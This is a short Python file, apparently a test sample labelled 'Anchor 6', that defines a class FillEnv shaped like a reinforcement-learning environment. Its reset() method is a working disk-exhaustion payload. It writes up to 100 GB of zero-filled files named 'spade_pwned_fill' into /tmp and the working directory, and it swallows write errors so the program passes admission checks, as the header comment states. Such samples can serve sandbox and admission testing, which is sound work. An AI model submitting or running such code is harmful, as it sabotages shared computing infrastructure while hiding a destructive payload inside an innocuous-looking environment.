# Anchor 6: fill /tmp (and the work dir) with 100 GB; errors swallowed, so the program is admitted.
import os


class FillEnv:
    def reset(self, seed=None):
        written = 0
        chunk = b"\0" * (8 << 20)
        for d in ("/tmp", "."):
            for i in range(12800):
                try:
                    with open(os.path.join(d, "spade_pwned_fill%d" % i), "wb") as f:
                        for _ in range(4):
                            f.write(chunk)
                            written += len(chunk)
                except OSError:
                    break
        print("wrote %d bytes" % written)
        return "filled", {}

    def step(self, action):
        return "nothing", 0.0, False, False, {}
